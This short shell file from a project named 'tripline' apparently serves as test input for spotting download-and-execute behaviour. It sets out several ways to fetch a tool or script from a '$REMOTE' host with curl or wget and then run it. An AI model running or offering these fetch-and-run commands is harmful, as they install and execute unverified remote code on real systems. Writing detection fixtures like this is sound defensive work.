# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 The tripline authors
# Fetch and run: a program by its path, a script given to a shell and by its own line, a program in the working directory.
curl -s -o /tmp/tool "http://$REMOTE/tool"
chmod 755 /tmp/tool
/tmp/tool
wget -q -O /tmp/setup.sh "http://$REMOTE/setup.sh"
sh /tmp/setup.sh
chmod 755 /tmp/setup.sh
/tmp/setup.sh
mkdir /tmp/work
cd /tmp/work
busybox wget -q "http://$REMOTE/tool"
chmod +x tool
./tool
true
